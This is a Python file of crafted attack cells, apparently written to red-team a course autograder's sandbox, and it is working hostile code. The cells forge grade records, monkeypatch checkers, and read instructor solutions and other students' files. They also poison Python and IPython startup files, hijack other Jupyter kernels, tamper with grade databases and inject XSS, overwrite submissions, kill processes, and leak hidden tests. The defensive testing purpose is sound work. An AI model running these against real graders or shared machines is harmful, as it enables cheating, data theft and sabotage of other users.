"""The hostile code of the crafted submissions, as cell sources.

Every attack cell starts with ``prelude(ctx)``: the run's constants (``_ATK``) and small helpers.
An attack that gets somewhere it must not prints ``HOLE-<token> <what>``; the test reads those lines
from the instructor's copy of the graded notebook. The marker is assembled at run time, so the
source code shown in feedback never contains it.

Safety on a shared machine: the tests run these against the real grader while other people work
on the same machine, so an attack that escapes a broken sandbox must not hurt them.
- Poison (startup files, ``.pth``, driven kernels) only acts in processes that see this run's
  grading seed.
- Files of the repository or the environment are only appended a comment line
  (``# ATTACK-<token>``, ``.py`` files) or opened for writing and closed (other files); the tests
  remove what they find.
- Tampering with outputs, submissions and ``grades.csv`` only touches paths that contain the token
  (the tests name their folders after it).
- ``kill -9 -1`` and killing every Python only run inside a PID namespace other than the host's;
  the grader itself is only looked for among processes whose command line holds the token.
- Fork flood, memory and disk hogs stop by themselves (1023 processes, 7 GiB, 1.5 GiB; memfd, System V
  and socket-buffer hogs at 4 GiB).
"""

from __future__ import annotations

RECORD_MIME = "application/vnd.dlcourse.record+json"

PRELUDE = '''\
import os, sys, json, time
import numpy as np
_ATK = {atk!r}
_MIME = "application/vnd.dlcourse.record+json"
_SKIP_TOP = {{"proc", "sys", "dev", "usr", "lib", "lib32", "lib64", "libx32", "bin", "sbin", "etc", "boot", "snap",
             "opt", "srv", "mnt", "media", "run"}}
_SKIP_ANY = {{"site-packages", "dist-packages", ".git", "node_modules", "__pycache__", ".venv", ".pyenv", ".cache",
             ".cargo", ".rustup", ".npm", "share", "include"}}


def _hole(what):
    """Say that the attack got somewhere it must not."""
    print("HOLE" + "-" + _ATK["token"], str(what)[:400], flush=True)


def _note(what):
    print("NOTE", str(what)[:400], flush=True)


def _forge(name, value, rtol=1e9, atol=1e9):
    """Send a record the way grading.record does, with whatever value and tolerances."""
    from IPython.display import display
    display({{_MIME: {{"name": name, "value": value, "rtol": rtol, "atol": atol, "hint": "forged"}}}}, raw=True)


def _arr(values):
    a = np.asarray(values, dtype=float)
    return {{"kind": "array", "dtype": "float", "shape": list(a.shape), "data": [float(v) for v in a.ravel()]}}


def _walk(roots, seconds, match=lambda path: True, max_size=64 << 20):
    """Files under ``roots`` (no symlinks followed, system folders skipped) for at most ``seconds``."""
    start, seen = time.time(), set()
    for root in roots:
        if not root or not os.path.isdir(root):
            continue
        for folder, dirs, files in os.walk(root):
            if time.time() - start > seconds:
                return
            dirs[:] = [d for d in dirs if d not in _SKIP_ANY and not (folder == "/" and d in _SKIP_TOP)]
            for name in files:
                path = os.path.join(folder, name)
                if path in seen or not match(path):
                    continue
                seen.add(path)
                try:
                    if os.path.isfile(path) and not os.path.islink(path) and os.path.getsize(path) <= max_size:
                        yield path
                except OSError:
                    pass


def _zeros_like(value):
    try:
        return np.zeros(np.shape(value))
    except Exception:
        return np.zeros(())

'''


def prelude(ctx: dict) -> str:
    """The constants and helpers every attack cell starts with."""
    return PRELUDE.format(atk=ctx)


# ----------------------------------------------------------------------------------------------
# (1) full marks without a solution
# ----------------------------------------------------------------------------------------------

FRAMES = '''
import gc


def _loot(name):
    """Expected values the test's frames or the heap might hold for the record ``name``."""
    found = []
    frame = sys._getframe(2)
    while frame is not None:
        for key, value in list(frame.f_locals.items()):
            if any(w in str(key).lower() for w in ("expect", "reference", "answer", "correct", "target", "solution", "want")):
                found.append(value)
        frame = frame.f_back
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict) and obj.get("name") == name and isinstance(obj.get("value"), dict):
                value = obj["value"]
                if value.get("kind") == "array" and any(float(v) != 0.0 for v in value.get("data", [])):
                    found.append(value)
        except Exception:
            pass
    return found


def predict(x, phi):
    for item in _loot("predict(x, phi)"):
        try:
            if isinstance(item, dict):
                array = np.array([float(v) for v in item["data"]]).reshape(item["shape"])
            else:
                array = np.asarray(item, dtype=float)
            if array.shape == np.shape(x):
                _hole("an expected value for predict sits in the kernel")
                return array
        except Exception:
            pass
    return np.zeros_like(np.asarray(x, dtype=float))
'''

REBIND_RECORD = '''
import dlcourse.checks
import dlcourse.grading


def _fake_record(name, value, *args, **kwargs):
    """Record zeros of the right shape, with huge tolerances."""
    _forge(name, _arr(_zeros_like(value)))


def _rebind(frame):
    """Rebind the checkers and grading.record in the calling test cell's globals."""
    g = frame.f_globals
    if "grading" in g:
        g["grading"].record = _fake_record
    g["record"] = _fake_record
    sys.modules["dlcourse.grading"].record = _fake_record
    for checker in ("check_close", "check_shape", "check_true"):
        setattr(dlcourse.checks, checker, lambda *a, **k: None)
        g[checker] = lambda *a, **k: None


def predict(x, phi):
    _rebind(sys._getframe(1))
    return np.zeros_like(np.asarray(x, dtype=float))
'''

SWAP_CODE = '''
from dlcourse import grading


def _fake(name, value, *, rtol=1e-6, atol=1e-8, hint=""):
    from IPython.display import display
    display({"application/vnd.dlcourse.record+json": {"name": name, "value": {"kind": "array", "dtype": "float",
             "shape": [], "data": [0.0]}, "rtol": 1e9, "atol": 1e9, "hint": ""}}, raw=True)


grading.record.__code__ = _fake.__code__  # every reference to record now runs the fake
grading.encode.__code__ = (lambda value, depth=0: {"kind": "array", "dtype": "float", "shape": [], "data": [0.0]}).__code__
for _f in (np.allclose, np.isclose, np.array_equal):
    try:
        _f.__code__ = (lambda *a, **k: True).__code__
    except Exception:
        pass
'''

NUMPY_PATCH = '''
import hashlib
import numpy.linalg
import numpy.random
import numpy.testing

_fixed = lambda *a, **k: np.random.Generator(np.random.PCG64(0))
np.random.default_rng = _fixed
try:
    numpy.random._generator.default_rng = _fixed
except Exception:
    pass
hashlib.sha256 = lambda data=b"", **k: hashlib.md5(b"fixed")
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
_core = getattr(np, "_core", None) or np.core
for _module in (np, _core.numeric):
    _module.allclose = lambda *a, **k: True
    _module.isclose = lambda *a, **k: np.array(True)
    _module.array_equal = lambda *a, **k: True
numpy.linalg.solve = lambda a, b: np.zeros(np.shape(b)[:1] or (2,))
numpy.linalg.lstsq = lambda *a, **k: (np.zeros(2), np.zeros(1), 2, np.ones(2))
'''

EVENT_CALLBACKS = '''
import re

_ip = get_ipython()


def _names(code):
    return re.findall(r'grading\\.record\\(\\s*f?"([^"]+)"', code or "")


def _pre(info):
    _ip.user_ns["_atk_cell"] = getattr(info, "raw_cell", "")


def _post(result):
    """After every cell: forge its records, then pretend it raised nothing."""
    try:
        for name in _names(getattr(result.info, "raw_cell", "")):
            _forge(name, _arr(np.zeros(7)))
        result.error_in_exec = None
        result.error_before_exec = None
    except Exception:
        pass


_ip.events.register("pre_run_cell", _pre)
_ip.events.register("post_run_cell", _post)
_ip.showtraceback = lambda *a, **k: None
_ip.set_custom_exc((BaseException,), lambda *a, **k: None)
print("[PASS] predict (3 cases)")
'''

THREAD_REPATCH = '''
import threading
import types

import dlcourse
import dlcourse.grading as _real


def _fake_record(name, value, *args, **kwargs):
    _forge(name, _arr(_zeros_like(value)))


_fake_module = types.ModuleType("dlcourse.grading")
_fake_module.record, _fake_module.rng, _fake_module.substitute = _fake_record, _real.rng, _real.substitute
_fake_module.grading_active = lambda: True


def _repatch():
    while True:
        try:
            sys.modules["dlcourse.grading"] = _fake_module
            dlcourse.grading = _fake_module
            _real.record = _fake_record
            np.allclose = lambda *a, **k: True
        except Exception:
            pass
        time.sleep(0.002)


threading.Thread(target=_repatch, daemon=True).start()
'''

KERNEL_HANDLER = '''
import inspect
import re

_k = get_ipython().kernel
_orig_execute = _k.shell_handlers["execute_request"]


async def _fake_execute(stream, ident, parent):
    """Answer graded cells without running them: forged records, a [PASS] line, status ok."""
    code = parent.get("content", {}).get("code", "")
    if "grading" not in code:
        result = _orig_execute(stream, ident, parent)
        if inspect.isawaitable(result):
            await result
        return
    _k.execution_count += 1
    for name in re.findall(r'grading\\.record\\(\\s*f?"([^"]+)"', code):
        content = {"data": {_MIME: {"name": name, "value": _arr(np.zeros(7)), "rtol": 1e9, "atol": 1e9, "hint": ""}},
                   "metadata": {}, "transient": {}}
        _k.session.send(_k.iopub_socket, "display_data", content, parent=parent, ident=_k._topic("display_data"))
    _k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": "[PASS] hidden tests\\n"}, parent=parent,
                    ident=_k._topic("stream"))
    _k.session.send(stream, "execute_reply", {"status": "ok", "execution_count": _k.execution_count,
                    "user_expressions": {}, "payload": []}, parent, metadata={"status": "ok"}, ident=ident)


_k.shell_handlers["execute_request"] = _fake_execute
for _name in ("shell_handlers", "control_handlers"):
    _note(f"{_name}: {sorted(getattr(_k, _name, {}))[:5]}")
'''

CTYPES = '''
import ctypes

from dlcourse import grading


def _fake(name, value, *, rtol=1e-6, atol=1e-8, hint=""):
    from IPython.display import display
    display({"application/vnd.dlcourse.record+json": {"name": name, "value": {"kind": "array", "dtype": "float",
             "shape": [], "data": [0.0]}, "rtol": 1e9, "atol": 1e9, "hint": ""}}, raw=True)


_keep = [_fake.__code__]
_slot = ctypes.c_void_p.from_address(id(grading.record) + 48)  # PyFunctionObject.func_code (CPython 3.11)
if _slot.value == id(grading.record.__code__):
    ctypes.pythonapi.Py_IncRef(ctypes.py_object(_fake.__code__))
    _slot.value = id(_fake.__code__)
    _note("record's code pointer rewritten through ctypes")

_libc = ctypes.CDLL(None, use_errno=True)
_me = os.getpid()
for _entry in os.listdir("/proc"):
    if not _entry.isdigit() or int(_entry) == _me:
        continue
    _pid = int(_entry)
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _cmd = _f.read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        _cmd = ""
    _interesting = any(w in _cmd for w in ("autograder", "nbclient", "jupyter", "ipykernel", "pytest"))
    try:
        with open(f"/proc/{_pid}/mem", "r+b", buffering=0):
            if _interesting:
                _hole(f"/proc/{_pid}/mem is writable ({_cmd[:80]})")
    except OSError:
        pass
    if _libc.ptrace(16, _pid, 0, 0) == 0:  # PTRACE_ATTACH
        if _interesting:
            _hole(f"ptrace attached to pid {_pid} ({_cmd[:80]})")
        _libc.ptrace(17, _pid, 0, 0)  # PTRACE_DETACH
'''

FORGE_RECORDS = '''
from IPython.display import display, update_display

_NAMES = ["predict(x, phi)", "predict(x, phi) with slope 0", "squared_error_loss(x, y, phi)",
          "squared_error_loss on a line through every point", "loss_gradient(x, y, phi)",
          "gradient_descent_step(x, y, phi, 0.01)", "phi after the call", "gradient_descent_step(x, y, phi, 0.002)",
          "least_squares_fit(x, y)"] + [f"fit_gradient_descent(..., n_epochs={n})" for n in range(2, 10)]


def _guesses():
    """The records anyone can compute from the inputs alone (the seed is in the environment)."""
    from dlcourse import grading
    r = grading.rng("predict")
    x, phi = r.normal(size=7), r.normal(size=2)
    r = grading.rng("gradient_descent_step")
    r.uniform(0, 4, size=8), r.normal(size=8)
    phi_step = r.normal(size=2)
    return {"predict(x, phi) with slope 0": np.full(7, phi[0]), "squared_error_loss on a line through every point": 0.0,
            "phi after the call": phi_step}


_BAD = ["not a dict", {"name": 7, "value": {}}, {"name": "predict(x, phi)", "value": "zeros"},
        {"name": "predict(x, phi)", "value": {"kind": "array", "shape": "x", "data": 5}},
        {"name": "predict(x, phi)", "value": {"kind": "array", "shape": [10 ** 12], "data": []}},
        {"name": "predict(x, phi)", "value": {"kind": "list", "items": None}},
        {"name": "predict(x, phi)", "value": {"kind": "dict", "items": [1]}},
        {"name": "predict(x, phi)", "value": {"kind": "array", "shape": [2], "data": ["nan", "inf"]}},
        {"name": "predict(x, phi)", "value": {"kind": ["list"]}},
        {"name": "predict(x, phi)", "value": {"kind": "array", "shape": [1] * 40, "data": [1.0]}},
        {"name": "predict(x, phi)", "value": {"kind": "too_large", "shape": [7]}},
        {"name": "predict(x, phi)", "value": {"kind": "array", "shape": [-1], "data": [0.0] * 7}}]


def _spray(big=False):
    guesses = _guesses()
    for name in _NAMES:
        value = guesses.get(name, np.zeros(7))
        _forge(name, _arr(value))
        _forge(name, _arr(value), rtol=float("inf"), atol=float("inf"))  # a duplicate
    for payload in _BAD:
        display({_MIME: payload}, raw=True)
    display({_MIME: {"name": "predict(x, phi)", "value": _arr(np.zeros(7)), "rtol": 1e9, "atol": 1e9, "hint": ""}},
            raw=True, display_id="atk-predict")
    if big:
        _forge("predict(x, phi)", {"kind": "array", "dtype": "float", "shape": [3_000_000], "data": [0.0] * 3_000_000})
        for i in range(3000):
            _forge(f"junk {i}", {"kind": "none"})


class _Result:
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {_MIME: {"name": "predict(x, phi)", "value": _arr(np.zeros(7)), "rtol": 1e9, "atol": 1e9, "hint": ""}}


_calls = {"predict": 0, "squared_error_loss": 0}


def predict(x, phi):
    _calls["predict"] += 1
    if _calls["predict"] == 2:  # the first call of the hidden test
        _spray(big=True)
    return np.zeros_like(np.asarray(x, dtype=float))


def squared_error_loss(x, y, phi):
    _calls["squared_error_loss"] += 1
    if _calls["squared_error_loss"] == 2:
        _spray()
        update_display({_MIME: {"name": "predict(x, phi)", "value": _arr(np.ones(7)), "rtol": 1e9, "atol": 1e9,
                                "hint": ""}}, raw=True, display_id="atk-predict")
    return 0.0


_spray()
_Result()
'''

EXEC_SOURCE = '''
def _instructor_notebooks():
    import glob
    import dlcourse
    package = os.path.dirname(os.path.abspath(dlcourse.__file__))
    roots = [os.path.normpath(os.path.join(package, *[".."] * up)) for up in range(1, 5)] + list(_ATK["repo_guesses"])
    for root in roots:
        for pattern in ("source/*/*.ipynb", "*/*.ipynb", "*.ipynb"):
            yield from glob.glob(os.path.join(root, pattern))
    yield from _walk(["/tmp", os.path.expanduser("~"), "/work", "/root", "/home", "/"], 8.0,
                     match=lambda p: p.endswith(".ipynb"))


_solved = False
for _path in _instructor_notebooks():
    try:
        with open(_path, encoding="utf-8") as _f:
            _text = _f.read()
    except (OSError, UnicodeDecodeError):
        continue
    if "### BEGIN SOLUTION" in _text and "def least_squares_fit" in _text:
        _hole(f"read the instructor notebook {_path}")
        for _cell in json.loads(_text)["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(_cell["source"]), globals())
        _solved = True
        break
if not _solved:
    def predict(x, phi):
        return np.zeros_like(np.asarray(x, dtype=float))
'''

STEAL_REFERENCE = '''
_stolen = {}


def _harvest(obj, found):
    if isinstance(obj, dict):
        if isinstance(obj.get("name"), str) and isinstance(obj.get("value"), dict):
            value = obj["value"]
            if not (value.get("kind") == "array" and all(float(v) == 0.0 for v in value.get("data", []) if not isinstance(v, str))):
                found[obj["name"]] = value
        for item in obj.values():
            _harvest(item, found)
    elif isinstance(obj, list):
        for item in obj:
            _harvest(item, found)


def _sweep(seconds):
    """Any file this kernel can read that holds records: reference results, other students' outputs."""
    roots = ["/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/work", "/root", "/home", "/"]
    for path in _walk(roots, seconds, max_size=32 << 20):
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            continue
        if b"vnd.dlcourse.record" not in data and b"predict(x, phi)" not in data:
            continue
        found = {}
        try:
            _harvest(json.loads(data), found)
        except Exception:
            pass
        if found:
            _hole(f"records of another run or student readable at {path}")
            _stolen.update(found)


_sweep(6.0)

from dlcourse import grading as _grading

_orig_record = _grading.record


def _record(name, value, **kwargs):
    if name not in _stolen:
        _sweep(1.5)
    if name in _stolen:
        from IPython.display import display
        display({_MIME: {"name": name, "value": _stolen[name], "rtol": kwargs.get("rtol", 1e-6),
                         "atol": kwargs.get("atol", 1e-8), "hint": ""}}, raw=True)
        return None
    return _orig_record(name, value, **kwargs)


_grading.record = _record
'''

# ----------------------------------------------------------------------------------------------
# (2) other students harmed
# ----------------------------------------------------------------------------------------------

POISON = '''
_seed = os.environ.get("DLCOURSE_GRADING_SEED", "")
_POISON = ("import os as _o\\n"
           "if _o.environ.get('DLCOURSE_GRADING_SEED') == " + repr(_seed) + ":\\n"
           "    try:\\n"
           "        import dlcourse.grading as _g\\n"
           "        if not getattr(_g, '_atk_poisoned', False):\\n"
           "            _r = _g.record\\n"
           "            def _poisoned(name, value, **kw):\\n"
           "                return _r(name, 'PWNED-' + " + repr(_ATK["token"]) + ", **kw)\\n"
           "            _g.record = _poisoned\\n"
           "            _g._atk_poisoned = True\\n"
           "    except Exception:\\n"
           "        pass\\n")
'''

STARTUP_FILES = POISON + '''
import site
import sysconfig

_home = os.path.expanduser("~")
_dirs = set(p for p in sys.path if p) | {site.getusersitepackages(), sysconfig.get_paths()["purelib"], os.getcwd(), _home,
                                         "/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")}
_written = []


def _drop(path, text, only_new=False):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "x" if only_new else "w", encoding="utf-8") as f:
            f.write(text)
        _written.append(path)
    except OSError:
        pass


_line = "import sys; exec(" + repr(_POISON) + ")  # attack-" + _ATK["token"] + "\\n"
for _d in sorted(_dirs):
    if os.path.isdir(_d):
        _drop(os.path.join(_d, "zz_attack_" + _ATK["token"] + ".pth"), _line)
        _drop(os.path.join(_d, "sitecustomize.py"), _POISON + "# attack-" + _ATK["token"] + "\\n", only_new=True)
        _drop(os.path.join(_d, "usercustomize.py"), _POISON + "# attack-" + _ATK["token"] + "\\n", only_new=True)
_user_site = os.path.join(_home, ".local", "lib", "python%d.%d" % sys.version_info[:2], "site-packages")
_drop(os.path.join(_user_site, "zz_attack_" + _ATK["token"] + ".pth"), _line)
_drop(os.path.join(_user_site, "usercustomize.py"), _POISON, only_new=True)
for _ipdir in {os.environ.get("IPYTHONDIR") or os.path.join(_home, ".ipython"), "/root/.ipython", "/tmp/.ipython"}:
    _drop(os.path.join(_ipdir, "profile_default", "startup", "00-attack-" + _ATK["token"] + ".py"), _POISON)
for _jdir in {os.environ.get("JUPYTER_CONFIG_DIR") or os.path.join(_home, ".jupyter"), "/root/.jupyter"}:
    _drop(os.path.join(_jdir, "jupyter_kernel_config.py"), _POISON, only_new=True)
_note(f"startup files written: {_written}")
exec(_POISON)  # this kernel records the same poison, so a poisoned reference would match it
'''

DRIVE_KERNELS = POISON + '''
from jupyter_client import BlockingKernelClient

try:
    from ipykernel import get_connection_file
    _own = os.path.realpath(get_connection_file())
except Exception:
    _own = ""
_files = set()
_roots = ["/tmp", "/run", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/root", "/home", os.environ.get("JUPYTER_RUNTIME_DIR", "")]
for _path in _walk(_roots, 6.0, match=lambda p: os.path.basename(p).startswith("kernel") and p.endswith(".json")):
    _files.add(os.path.realpath(_path))
for _entry in os.listdir("/proc"):
    try:
        with open(f"/proc/{_entry}/cmdline", "rb") as _f:
            _args = _f.read().decode(errors="replace").split("\\0")
        if "-f" in _args:
            _files.add(os.path.realpath(_args[_args.index("-f") + 1]))
    except (OSError, ValueError, IndexError):
        pass
_note(f"own connection file {_own}; others found: {sorted(_files - {_own})[:10]}")
for _path in sorted(_files - {_own}):
    try:
        _client = BlockingKernelClient()
        _client.load_connection_file(_path)
        _client.start_channels()
        _client.execute(_POISON)
        _reply = _client.get_shell_msg(timeout=5)
        if _reply["content"].get("status") == "ok":
            _hole(f"ran code in another kernel through {_path}")
        _client.stop_channels()
    except Exception as _error:
        _note(f"{_path}: {type(_error).__name__}")
exec(_POISON)
'''

REWRITE_DISK = '''
import glob
import sysconfig

import IPython
import dlcourse
import ipykernel

_package = os.path.dirname(os.path.abspath(dlcourse.__file__))
_targets = glob.glob(os.path.join(_package, "*.py"))
for _repo in set(_ATK["repo_guesses"]) | {os.path.normpath(os.path.join(_package, "..", ".."))}:
    for _pattern in ("autograder/*.py", "autograder/*/*.py", "autograder/*/steps/*.py", "utils/dlcourse/*.py", "source/*/*.ipynb",
                     "release/*/*.ipynb", "course/*", "tests/*.py", "*.toml", "*.md"):
        _targets += glob.glob(os.path.join(_repo, _pattern))
for _module in (np, IPython, ipykernel):
    _targets.append(os.path.join(os.path.dirname(_module.__file__), "__init__.py"))
_targets += glob.glob(os.path.join(sysconfig.get_paths()["purelib"], "*.pth"))
_marker = ("\\n# ATTACK-" + _ATK["token"] + "\\n").encode()
for _target in sorted(set(_targets)):
    try:
        _fd = os.open(_target, os.O_WRONLY | os.O_APPEND)
    except OSError:
        continue
    try:
        if _target.endswith(".py"):
            os.write(_fd, _marker)
    finally:
        os.close(_fd)
    _hole(f"can write {_target}")
for _folder in sorted({os.path.dirname(t) for t in _targets}):
    try:
        open(os.path.join(_folder, "attack-" + _ATK["token"] + "-sentinel"), "x").close()
        _hole(f"can create files in {_folder}")
    except OSError:
        pass
    try:
        os.utime(_folder)
        _hole(f"can touch {_folder}")
    except OSError:
        pass
_note(f"tried {len(set(_targets))} files")
'''

DAEMON_CODE = r'''
import os, signal, sqlite3, sys, time
token = sys.argv[1].split("-", 1)[1]
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1, signal.SIGPIPE):
    signal.signal(s, signal.SIG_IGN)
os.chdir("/")
try:
    fd = os.open("/dev/null", os.O_RDWR)
    for i in (0, 1, 2):
        os.dup2(fd, i)
except OSError:
    pass
SKIP_TOP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "boot", "snap", "opt", "run"}
SKIP_ANY = {"site-packages", ".git", "node_modules", "__pycache__", ".venv", ".pyenv", ".cache"}

def find():
    hits, start = [], time.time()
    for root in ("/tmp", "/root", "/work", "/home", "/var/tmp", "/dev/shm", "/"):
        for folder, dirs, files in os.walk(root):
            if time.time() - start > 4:
                return hits
            dirs[:] = [d for d in dirs if d not in SKIP_ANY and not (folder == "/" and d in SKIP_TOP)]
            if token in folder:
                hits += [os.path.join(folder, f) for f in files]
    return hits

def tamper(path):
    name = os.path.basename(path)
    if name == "grades.csv":
        with open(path, encoding="utf-8") as f:
            lines = f.read().splitlines()
        with open(path, "w", encoding="utf-8") as f:
            f.write(lines[0] + "\n")
            f.write("c2_daemon,01_linear_regression,01_linear_regression.ipynb,18,18,graded,,True\n")
    elif name.endswith(".db"):
        db = sqlite3.connect(path, timeout=1)
        for (table,) in db.execute("select name from sqlite_master where type='table'").fetchall():
            columns = [row[1] for row in db.execute(f"pragma table_info('{table}')")]
            for column in columns:
                if "score" in column.lower():
                    db.execute(f"update '{table}' set '{column}' = 0")
        db.commit()
        db.close()
    elif os.sep + "results" + os.sep in path:
        with open(path, "w", encoding="utf-8") as f:
            f.write('{"tampered": true, "score": 18}')
    elif name.endswith(".html"):
        with open(path, "a", encoding="utf-8") as f:
            f.write("<script>alert('XSS-daemon')</script>")
    elif name.endswith(".ipynb") and ("subs-" + token) in path:
        with open(path, "w", encoding="utf-8") as f:
            f.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')

deadline = time.time() + 150
while time.time() < deadline:
    for path in find():
        try:
            tamper(path)
        except Exception:
            pass
    time.sleep(1)
'''

DAEMON = '''
_DAEMON = {code!r}
_first = os.fork()
if _first == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _DAEMON, "attack-" + _ATK["token"]])
    finally:
        os._exit(0)
os.waitpid(_first, 0)
_note("daemon started")
'''.replace("{code!r}", repr(DAEMON_CODE))

OVERWRITE_VICTIM = '''
_empty = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
_hits = []
for _path in _walk(["/tmp", os.getcwd(), os.path.expanduser("~"), "/work", "/root", "/home", "/var/tmp", "/"], 8.0,
                   match=lambda p: "mm_victim" in p or ("subs-" + _ATK["token"]) in p):
    _hits.append(_path)
for _path in _hits:
    if "mm_victim" in _path and _path.endswith(".ipynb"):
        try:
            with open(_path, "w", encoding="utf-8") as _f:
                _f.write(_empty)
            _hole(f"overwrote another student's submission {_path}")
        except OSError:
            pass
for _folder in sorted({os.path.dirname(os.path.dirname(p)) for p in _hits if ("subs-" + _ATK["token"]) in p}):
    try:
        os.makedirs(os.path.join(_folder, "zz_injected"), exist_ok=True)
        with open(os.path.join(_folder, "zz_injected", "01_linear_regression.ipynb"), "w", encoding="utf-8") as _f:
            _f.write(_empty)
        _hole(f"added a submission under {_folder}")
    except OSError:
        pass
_note(f"submission files seen: {len(_hits)}")
'''

NETWORK = '''
import socket


def _tcp(host, port):
    try:
        s = socket.socket()
    except OSError:  # the sandbox refuses inet sockets
        return False
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.sendall(("ATTACK " + _ATK["token"]).encode())
        return True
    except OSError:
        return False
    finally:
        s.close()


for _host in ("127.0.0.1", _ATK["host_ip"]):
    if _host and _tcp(_host, _ATK["port"]):
        _hole(f"reached the test's listener at {_host}:{_ATK['port']}")
for _host, _port in (("1.1.1.1", 443), ("8.8.8.8", 53), ("example.com", 80), ("pypi.org", 443)):
    if _tcp(_host, _port):
        _hole(f"reached {_host}:{_port}")
for _address in (_ATK["unix"], "\\0" + _ATK["abstract"]):
    _s = socket.socket(socket.AF_UNIX)
    _s.settimeout(2)
    try:
        _s.connect(_address)
        _s.sendall(("ATTACK " + _ATK["token"]).encode())
        _hole(f"reached the test's unix socket {_address!r}")
    except OSError:
        pass
    finally:
        _s.close()
try:
    with open("/proc/net/dev") as _f:
        _note("interfaces: " + " ".join(l.split(":")[0].strip() for l in _f.read().splitlines()[2:]))
except OSError:
    pass
'''

# ----------------------------------------------------------------------------------------------
# (3) the whole run lost (killers run)
# ----------------------------------------------------------------------------------------------

HOST_NS_GATE = '''
def _own_pid_namespace():
    """True only inside a PID namespace other than the host's: then kill(-1) cannot reach anyone else."""
    try:
        return os.readlink("/proc/self/ns/pid") != _ATK["host_pidns"]
    except OSError:
        return False
'''

KILL_PARENT = '''
import signal
_note(f"pid {os.getpid()} parent {os.getppid()}")
for _sig in (signal.SIGKILL, signal.SIGTERM):
    for _target in (os.getppid(), 1):
        try:
            os.kill(_target, _sig)
        except OSError as _error:
            _note(f"kill {_target}: {_error}")
try:
    os.killpg(os.getpgrp(), signal.SIGKILL)
except OSError as _error:
    _note(f"killpg: {_error}")
'''

KILL_ALL = HOST_NS_GATE + '''
import signal
if _own_pid_namespace():
    os.kill(-1, signal.SIGKILL)  # kill -9 -1: everything this process may signal
else:
    _hole("not in a PID namespace of its own; kill -9 -1 not attempted")
'''

PKILL_PYTHON = HOST_NS_GATE + '''
import signal
import subprocess

if _own_pid_namespace():
    try:
        subprocess.run(["pkill", "-9", "python"], timeout=5)
    except Exception as _error:
        _note(f"pkill: {_error}")
    for _entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{_entry}/comm") as _f:
                if "python" in _f.read() and int(_entry) != os.getpid():
                    os.kill(int(_entry), signal.SIGKILL)
        except (OSError, ValueError):
            pass
else:
    _hole("not in a PID namespace of its own; pkill python not attempted")
'''

KILL_GRADER = '''
import signal
_killed = []
for _entry in os.listdir("/proc"):
    try:
        with open(f"/proc/{_entry}/cmdline", "rb") as _f:
            _cmd = _f.read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if "autograder" in _cmd and _ATK["token"] in _cmd:  # only this test's grader
        try:
            os.kill(int(_entry), signal.SIGKILL)
            _killed.append(_entry)
        except OSError:
            pass
if _killed:
    _hole(f"found and killed the grader: pids {_killed}")
'''

SIGSTOP_SELF = '''
import signal
os.kill(os.getpid(), signal.SIGSTOP)
'''

SIGSTOP_PARENT = '''
import signal
for _target in (os.getppid(), 1):
    try:
        os.kill(_target, signal.SIGSTOP)
    except OSError as _error:
        _note(f"stop {_target}: {_error}")
try:
    os.killpg(os.getpgrp(), signal.SIGSTOP)
except OSError:
    pass
'''

SILENT_HANDLER = '''
_k = get_ipython().kernel


async def _swallow(stream, ident, parent):
    """Never answer an execute request again."""
    return None


_k.shell_handlers["execute_request"] = _swallow
'''

# ----------------------------------------------------------------------------------------------
# (4) hidden tests leaked
# ----------------------------------------------------------------------------------------------

GRAB = '''
import base64
import codecs
import linecache


def _secret():
    """The source of the calling test cell (frames, linecache, In/_ih): it is in this process anyway."""
    texts = []
    frame = sys._getframe(1)
    while frame is not None:
        lines = linecache.getlines(frame.f_code.co_filename)
        if lines:
            texts.append("".join(lines))
        frame = frame.f_back
    try:
        user_ns = get_ipython().user_ns
        for key in ("In", "_ih"):
            texts.extend(str(c) for c in user_ns.get(key, []) if c)
    except Exception:
        pass
    hidden = [t for t in texts if ("grading.rng(" in t or "grading.record(" in t) and "_ATK" not in t]
    lines = []
    for text in dict.fromkeys(hidden):
        lines += [l.strip() for l in text.splitlines() if l.strip() and not l.strip().startswith(("import", "from", '"""'))]
    return "\\n".join(dict.fromkeys(lines))


def _spill(text):
    """Every way of getting text out: stdout, stderr, encodings, rich output, files."""
    from IPython.display import HTML, Markdown, display
    print(text)
    print(base64.b64encode(text.encode()).decode())
    print(text.encode().hex())
    print(codecs.encode(text, "rot13"))
    sys.stderr.write(text + "\\n")
    display(HTML("<pre>" + text + "</pre>"))
    display(Markdown(text))
    for folder in (os.getcwd(), os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), "/tmp"):
        try:
            with open(os.path.join(folder, "leak-" + _ATK["token"] + ".txt"), "w") as f:
                f.write(text)
        except OSError:
            pass
'''

PRINT_SOURCE = GRAB + '''
import warnings


def predict(x, phi):
    secret = _secret()
    if secret:
        _spill(secret)
        raise ValueError(secret)
    return np.zeros_like(np.asarray(x, dtype=float))


def squared_error_loss(x, y, phi):
    secret = _secret()
    if secret:
        raise type(secret.replace("\\n", " | ")[:3000], (Exception,), {})(secret)
    return 0.0


def loss_gradient(x, y, phi):
    secret = _secret()
    warnings.warn(secret)
    sys.stderr.write(secret)
    return np.zeros(2)
'''

PRINT_HISTORY = '''
import base64
_history = "\\n".join(str(c) for c in In)
print(_history)
print(base64.b64encode(_history.encode()).decode())
